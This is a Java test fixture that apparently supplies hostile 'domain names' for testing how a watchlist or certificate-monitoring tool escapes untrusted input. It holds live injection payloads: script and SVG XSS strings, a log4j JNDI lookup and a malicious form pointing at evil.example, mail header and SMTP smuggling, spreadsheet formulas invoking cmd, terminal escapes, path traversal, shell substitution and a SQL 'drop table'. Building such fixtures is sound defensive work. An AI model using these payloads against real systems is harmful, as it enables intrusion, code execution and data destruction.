package dev.vigie.testing;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import dev.vigie.dns.InertName;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** Names that strangers choose for what a program does with them; rows C21 to C26. */
public final class HostileNames {

    private static final int MEBI = 1 << 20;

    /**
     * One of them.
     *
     * @param label for reports, which would not bear the name itself
     * @param bytes as they would stand in a certificate
     * @param text the same where text is expected
     */
    public record HostileName(String label, byte[] bytes, String text) {

        public InertName inert() {
            return InertName.of(bytes, 0, bytes.length);
        }

        /** As if it were the name of a watchlist. */
        public InertName words() {
            return InertName.ofWords(text);
        }

        @Override
        public String toString() {
            return label;
        }
    }

    private final List<HostileName> names = new ArrayList<>();

    private HostileNames() {
        forPages();
        forTemplates();
        forMails();
        forSpreadsheets();
        forChats();
        forTerminals();
        forPrograms();
        ofOddLength();
    }

    /** All of them. */
    public static Stream<HostileName> all() {
        return new HostileNames().names.stream();
    }

    private void forPages() {
        text("script element", "<script>alert(1)</script>.watched.example");
        text("script element that is not closed", "<script src=//evil.example/x>");
        text("image with a handler", "\"><img src=x onerror=alert(1)>.watched.example");
        text("attribute in single quotes", "' onmouseover='alert(1)");
        text("attribute in double quotes", "\" autofocus onfocus=\"alert(1)");
        text("svg with a handler", "<svg/onload=alert(1)>");
        text("style element", "</style><style>*{display:none}</style>");
        text("end of preformatted text", "</pre></code></td></table><h1>big</h1>");
        text("comment", "<!-- ");
        text("end of a CDATA section", "]]><x>");
        text("form", "<form action=http://evil.example><button>ok</button></form>");
        text("javascript URL", "javascript:alert(document.domain)//watched.example");
        text("data URL", "data:text/html;base64,PHNjcmlwdD4=");
        text("entities", "&lt;b&gt;&amp;&#60;&nbsp;&quot;");
        text("entity without an end", "&copy=1&ltx&#x3c");
    }

    private void forTemplates() {
        text("log4j lookup", "${jndi:ldap://evil.example/x}.watched.example");
        text("curly braces twice", "{{7*7}}");
        text("curly braces thrice", "{{{config}}}");
        text("hash expression", "#{7*7}");
        text("Qute expression", "{config:['vigie.secrets.key']}");
        text("Qute section", "{#for i in 9}x{/for}{/}");
        text("Qute data that is not parsed", "{|raw|}");
        text("Qute comment", "{! gone !}");
        text("Qute access to a bean", "{inject:recipients}{cdi:recipients.unconfirmed}");
        text("server-side tags", "<%= 7*7 %><#assign x=1>");
        text("format", "%n%s%1$s%d%%");
        text("percent-encoded line break", "a%0d%0aBcc:%20x@evil.example");
        text("macro of an adaptive card", "{{DATE(2026-02-14T06:08:39Z,SHORT)}}");
        text("expression of a card or workflow", "${$root.x}@{triggerBody()}");
    }

    private void forMails() {
        text("header after a line break", "a\r\nBcc: x@y.watched.example");
        text("header after a bare line feed", "a\nSubject: nothing to see");
        text("header after a bare carriage return", "a\rBcc: x@y.watched.example");
        text("encoded word", "=?utf-8?B?PHNjcmlwdD4=?=");
        text("encoded word with a line break", "=?utf-8?Q?=0D=0ABcc:_x@y.watched.example?=");
        text("end of a mail", "\n.\n");
        text("end of a mail and another one", "\r\n.\r\nMAIL FROM:<evil@evil.example>\r\n");
        text("one dot", ".");
        text("end of a part", "\r\n--boundary--\r\nContent-Type: text/html\r\n\r\n<b>");
        text("quoted-printable", "=3Cscript=3E=");
        text(
                "first line of a mail in a mailbox",
                "From evil@evil.example Sat Jan  1 00:00:00 2028");
    }

    private void forSpreadsheets() {
        text("formula", "=cmd|'/C calc'!A0.watched.example");
        text("formula with plus", "+1+cmd|'/C calc'!A0");
        text("formula with minus", "-2+3");
        text("formula with at", "@SUM(1+1)*cmd");
        text("tab first", "\t=1+1");
        text("carriage return first", "\r=1+1");
        text("quotes and commas", "a\",\"b\";'c',\nd");
    }

    private void forChats() {
        text("call to a channel", "<!channel>");
        text("call to those who are here", "<!here|here>");
        text("call to a group", "<!subteam^S1|@admins>");
        text("call to a person", "<@U1>");
        text("call to a role", "<@&123456>");
        text("link to a channel", "<#C1|general>");
        text("date of a chat", "<!date^1392734382^{date}|now>");
        text("link with another text", "<http://evil.example|watched.example>");
        text("beginning of a link", "<http://evil.example");
        text("middle of a link", "|");
        text("end of a link", "|watched.example>");
        text("markdown link", "[watched.example](http://evil.example)");
        text("markdown picture", "![x](http://evil.example/x.png)");
        text("markdown reference", "[x]: http://evil.example");
        text("link in angle brackets", "<https://evil.example/>");
        text("mentions", "@everyone @here @all @channel");
        text("custom sign", "<a:party:1234> :fire:");
        text("backtick", "`");
        text("two backticks", "``");
        text("three backticks", "```\n<!channel>\n```");
        text("backtick first", "`<!channel>");
        text("backtick last", "<!channel>`");
        text("backticks around", "` <!channel> @everyone `");
        text("backslash before a backtick", "\\`@everyone\\");
        text("spoiler", "||spoiler||");
        text("struck, bold and slanted", "~~x~~ **y** __z__ *u* _v_ ~w~");
        text("heading, quotation and list", "# big\n> quoted\n- item\n1. item");
        text("table", "| a | b |\n|---|---|");
    }

    private void forTerminals() {
        text("colour", "\u001b[31mred\u001b[0m");
        text(
                "link of a terminal",
                "\u001b]8;;http://evil.example\u001b\\watched.example\u001b]8;;\u0007");
        text("title of a terminal", "\u001b]0;owned\u0007");
        text("bell and backspaces", "\u0007evil\b\b\b\bgood");
        text("control sequence in one byte", "\u009b31m");
        text("right-to-left", "watched\u202eelpmaxe.");
        text("isolated direction", "\u2067watched\u2069.example");
        text("line separator", "a\u2028b\u2029c");
        text("next line", "a\u0085b\u000bc\fd");
        text("invisible letters", "wat\u200bch\u00aded\ufeff.exa\u2060mple\u3164");
        text("letter that looks like another", "w\u0430tched.example");
        text("letter outside of the basic plane", "\ud83d\ude00.watched.example");
        text("tags", "a\udb40\udc41\udb40\udc7f");
    }

    private void forPrograms() {
        text("NUL", "watched.example\0.evil.example");
        text("lone high surrogate", "a\ud800b");
        text("lone low surrogate", "a\udc00");
        raw("surrogate in UTF-8", "\u00ed\u00a0\u0080.example");
        raw("invalid UTF-8", "\u00ff\u00fe\u00c0\u00af.example");
        raw("UTF-8 that is cut", "caf\u00c3");
        raw("overlong UTF-8", "\u00c0\u00bcscript\u00c0\u00be");
        raw("letter in Latin-1", "b\u00fccher.example");
        text("path", "../../etc/x");
        text("path of Windows", "..\\..\\windows\\win.ini");
        text("shell", "$(id)`id`;id|id&&id");
        text("SQL", "'; drop table rule_match; --");
        text("end of a JSON text", "\"}]}\n{\"type\":\"match.created\"}");
        text("JSON escape", "\\u003cscript\\u003e\\");
        text("end of structured data", "]][x@1 y=\"z\"] ");
        text("second message of syslog", "\n<165>1 2003-10-11T22:14:15.003Z evil su - - - owned");
        text("length of a frame of syslog", "\n47 <165>1 - - - - - - owned");
        text("log line", "\n2026-11-22 19:55:47 INFO  match nothing");
        text("metric", "x\"} 1\nvigie_matches_total{kind=\"y");
    }

    private void ofOddLength() {
        text("empty", "");
        text("blank", " ");
        text("blanks", "   ");
        text("blanks around", " watched.example ");
        text("a mebibyte", "a".repeat(MEBI));
        text("a mebibyte of NULs", "\0".repeat(MEBI));
        text("255 backticks", "`".repeat(255));
        text("255 ampersands", "&".repeat(255));
        text("255 angle brackets", "<".repeat(255));
        text("255 quotes", "\"".repeat(255));
        text("255 backslashes", "\\".repeat(255));
        text("255 signs outside of the basic plane", "\ud83d\ude00".repeat(255));
        text("a hundred labels", "a.".repeat(100) + "watched.example");
    }

    private void text(String label, String text) {
        names.add(new HostileName(label, text.getBytes(UTF_8), text));
    }

    private void raw(String label, String latin1) {
        byte[] bytes = latin1.getBytes(ISO_8859_1);
        names.add(new HostileName(label, bytes, new String(bytes, UTF_8)));
    }
}
